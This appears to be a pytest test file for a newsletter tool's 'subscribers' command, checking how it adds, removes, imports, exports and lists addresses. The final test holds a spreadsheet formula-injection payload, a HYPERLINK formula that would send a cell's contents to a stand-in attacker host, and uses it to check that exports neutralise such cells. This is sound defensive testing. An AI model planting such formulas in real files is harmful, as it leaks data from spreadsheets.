"""`feeds subscribers list|add|remove|import|export`, through the real command line, on a real
SQLite file: what each does to the list, what it says, and its exit status."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from conftest import run_cli, run_process

from feeds.arguments import STATUSES as ARGUMENT_STATUSES
from feeds.store import Store
from feeds.store.subscribers import STATUSES

NOW = "2025-03-01T09:00:00+00:00"


def project(root: Path, recipients: str = "") -> Path:
    cfg = root / "feeds.toml"
    cfg.write_text(f'[state]\npath = "state/feeds.sqlite3"\n[digest]\n{recipients}\n', encoding="utf-8")
    return cfg


def feeds(root: Path, *args: str):
    return run_cli("-c", str(root / "feeds.toml"), "--now", NOW, "subscribers", *args, cwd=root)


def listed(root: Path, *args: str) -> list[dict]:
    proc = feeds(root, "list", "--json", *args)
    assert proc.returncode == 0, proc.stderr
    return [json.loads(line) for line in proc.stdout.splitlines()]


def test_add_puts_addresses_on_the_list_active_and_names_the_invalid_ones(tmp_path):
    project(tmp_path)
    proc = feeds(tmp_path, "add", "Ann Lee <ann@Example.ORG>", "not-an-address", "bob@example.net", "x@@y")
    assert proc.returncode == 1, "an address was skipped"
    assert proc.stdout.splitlines() == ["added ann@example.org", "added bob@example.net"]
    assert proc.stderr.splitlines() == [
        "feeds: 'not-an-address' is not an address like name@example.org; skipped",
        "feeds: 'x@@y' is not an address like name@example.org; skipped"]
    rows = listed(tmp_path)
    assert [(r["address"], r["name"], r["status"], r["source"], r["sent"]) for r in rows] == [
        ("ann@example.org", "Ann Lee", "active", "command", 0), ("bob@example.net", "", "active", "command", 0)]
    assert rows[0]["changed"] == NOW


def test_remove_unsubscribes_and_records_an_unknown_address_so_the_config_does_not_add_it(tmp_path):
    project(tmp_path, 'recipients = ["carl@example.org"]')
    feeds(tmp_path, "add", "ann@example.org")
    proc = feeds(tmp_path, "remove", "ann@example.org", "carl@example.org", "ann@example.org")
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[0] == "removed ann@example.org (was active): it is sent no more digests"
    assert lines[1].startswith("carl@example.org: not on the list; recorded as unsubscribed")
    assert lines[2] == "ann@example.org: unsubscribed already (command, 2025-03-01)"
    # A pass brings the config's recipients in: carl, who left before it ever ran, stays off.
    with Store(tmp_path / "state" / "feeds.sqlite3") as store:
        store.sync_config([("carl@example.org", "")], now=datetime(2025, 3, 2, tzinfo=UTC))
    assert [(r["address"], r["status"]) for r in listed(tmp_path)] == [
        ("ann@example.org", "unsubscribed"), ("carl@example.org", "unsubscribed")]
    assert listed(tmp_path, "--status", "active") == []


def test_import_reads_one_address_per_line_and_names_each_bad_line(tmp_path):
    project(tmp_path)
    (tmp_path / "list.txt").write_text("# our readers\nann@example.org\n\nBen <ben@example.net>  # since 2019\n"
                                       "ben at example.net\nann@example.org\n", encoding="utf-8")
    proc = feeds(tmp_path, "import", "list.txt")
    assert proc.returncode == 1
    assert proc.stderr.strip() == "feeds: list.txt:5: 'ben at example.net': not an address; skipped"
    assert proc.stdout.strip() == "import list.txt: 2 added, 1 active already; 1 line(s) skipped"
    assert [(r["address"], r["name"], r["source"]) for r in listed(tmp_path)] == [
        ("ann@example.org", "", "import"), ("ben@example.net", "Ben", "import")]


def test_import_reads_csv_with_an_email_column_and_a_name(tmp_path):
    project(tmp_path)
    (tmp_path / "members.csv").write_text('Name,E-mail,Joined\n"Lee, Ann",ann@example.org,2020\n'
                                          ',ben@example.net,2021\nCarl,carl@,2022\n', encoding="utf-8-sig")
    proc = feeds(tmp_path, "import", "members.csv")
    assert proc.returncode == 1 and "members.csv:4: 'carl@' is not an address" in proc.stderr
    assert [(r["address"], r["name"]) for r in listed(tmp_path)] == [
        ("ann@example.org", "Lee, Ann"), ("ben@example.net", "")]


def test_an_import_never_brings_back_one_who_left(tmp_path):
    project(tmp_path)
    feeds(tmp_path, "add", "ann@example.org")
    feeds(tmp_path, "remove", "ann@example.org")
    (tmp_path / "list.txt").write_text("ann@example.org\n", encoding="utf-8")
    proc = feeds(tmp_path, "import", "list.txt")
    assert proc.returncode == 0
    assert "ann@example.org (unsubscribed, by command): left the list; an import does not bring it back" in proc.stdout
    assert listed(tmp_path)[0]["status"] == "unsubscribed"
    proc = feeds(tmp_path, "add", "ann@example.org")
    assert proc.stdout.strip() == "ann@example.org: active again (was unsubscribed, by command)"


def test_export_writes_the_csv_import_reads_back_with_who_left(tmp_path):
    one, two = tmp_path / "one", tmp_path / "two"
    for root in (one, two):
        root.mkdir()
        project(root)
    feeds(one, "add", "Ann Lee <ann@example.org>", "ben@example.net", "Carl <carl@example.org>")
    feeds(one, "remove", "ben@example.net")
    proc = feeds(one, "export")
    assert proc.returncode == 0
    assert list(csv.reader(io.StringIO(proc.stdout))) == [
        ["email", "name", "status"], ["ann@example.org", "Ann Lee", "active"],
        ["ben@example.net", "", "unsubscribed"], ["carl@example.org", "Carl", "active"]]
    (two / "list.csv").write_text(proc.stdout, encoding="utf-8")
    imported = feeds(two, "import", "list.csv")
    assert imported.stdout.strip() == "import list.csv: 2 added, 1 recorded as left"
    assert feeds(two, "export").stdout == proc.stdout
    assert feeds(one, "export", "--status", "active").stdout.count("\n") == 3


def test_list_says_so_when_there_is_no_state_yet(tmp_path):
    project(tmp_path)
    proc = feeds(tmp_path, "list")
    assert proc.returncode == 0 and proc.stdout == "" and "no state at" in proc.stderr
    assert not (tmp_path / "state").exists(), "listing makes nothing"


def test_list_shows_a_line_each_and_the_counts(tmp_path):
    project(tmp_path)
    feeds(tmp_path, "add", "Ann <ann@example.org>", "ben@example.net")
    feeds(tmp_path, "remove", "ben@example.net")
    proc = feeds(tmp_path, "list")
    assert proc.stdout.splitlines() == ["ann@example.org  active (command, 2025-03-01)  0 sent  Ann",
                                        "ben@example.net  unsubscribed (command, 2025-03-01)  0 sent"]
    assert proc.stderr.strip() == "2 subscriber(s), 1 active, 1 unsubscribed"


@pytest.mark.parametrize("action", ["list", "add", "remove", "import", "export"])
def test_each_action_has_its_help(tmp_path, action):
    proc = run_process("subscribers", action, "--help", cwd=tmp_path)
    assert proc.returncode == 0 and f"python -m feeds subscribers {action}" in proc.stdout
    assert len(proc.stdout.split("\n\n")[1]) > 40, "a description, not only the usage"


def test_the_statuses_the_arguments_offer_are_the_stores():
    assert ARGUMENT_STATUSES == STATUSES


def test_an_address_too_long_for_smtp_is_skipped(tmp_path):
    project(tmp_path)
    proc = feeds(tmp_path, "add", "a" * 65 + "@example.org", "b" * 64 + "@example.org")
    assert proc.returncode == 1 and "more than 64 characters before the '@'" in proc.stderr
    assert [r["address"] for r in listed(tmp_path)] == ["b" * 64 + "@example.org"]


def test_status_counts_the_list(tmp_path):
    project(tmp_path)
    feeds(tmp_path, "add", "ann@example.org", "ben@example.net", "cy@example.org")
    feeds(tmp_path, "remove", "cy@example.org")
    proc = run_cli("-c", str(tmp_path / "feeds.toml"), "--now", NOW, "status", cwd=tmp_path)
    assert "subscribers:  2 active (the digest goes to them), 1 unsubscribed" in proc.stdout
    data = json.loads(run_cli("-c", str(tmp_path / "feeds.toml"), "--now", NOW, "status", "--json",
                              cwd=tmp_path).stdout)
    assert data["subscribers"] == {"pending": 0, "active": 2, "unsubscribed": 1, "bounced": 0, "complained": 0}


def test_remove_finds_the_address_whatever_the_case_of_its_local_part(tmp_path):
    """The operator copies an address from a reader's mail, spelt Ann@…, and the list holds ann@…: it
    must come off (a pass mails the two spellings as one), not be recorded beside it as a new one."""
    project(tmp_path)
    feeds(tmp_path, "add", "ann@example.org")
    proc = feeds(tmp_path, "remove", "Ann@Example.org")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "removed Ann@example.org (as ann@example.org, was active): it is sent no more digests"
    assert [(s["address"], s["status"]) for s in listed(tmp_path)] == [("ann@example.org", "unsubscribed")]


def test_export_keeps_a_strangers_formula_out_of_the_operators_spreadsheet(tmp_path):
    """A name typed into the form as "=HYPERLINK(…)" is a formula when the export is opened in a
    spreadsheet: such cells start with "'" (shown as text), and import reads the name back whole."""
    one, two = tmp_path / "one", tmp_path / "two"
    for root in (one, two):
        root.mkdir()
        project(root)
    formula = '=HYPERLINK("https://evil.example.net/?"&A2,"Click")'
    assert feeds(one, "add", "--", "-dash@example.org").returncode == 0
    with Store(one / "state" / "feeds.sqlite3") as store:
        for address, name in (("ann@example.org", formula), ("bo@example.org", "@Bo +1")):
            store.subscribe(address, name, source="form", now=datetime(2025, 3, 1, tzinfo=UTC))
            store.confirm(address, now=datetime(2025, 3, 1, 1, tzinfo=UTC))
    proc = feeds(one, "export")
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    assert rows[1:] == [["'-dash@example.org", "", "active"], ["ann@example.org", "'" + formula, "active"],
                        ["bo@example.org", "'@Bo +1", "active"]]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    (two / "list.csv").write_text(proc.stdout, encoding="utf-8")
    assert feeds(two, "import", "list.csv").returncode == 0
    assert feeds(two, "export").stdout == proc.stdout
    assert {(s["address"], s["name"]) for s in listed(two)} == {
        ("-dash@example.org", ""), ("ann@example.org", formula), ("bo@example.org", "@Bo +1")}
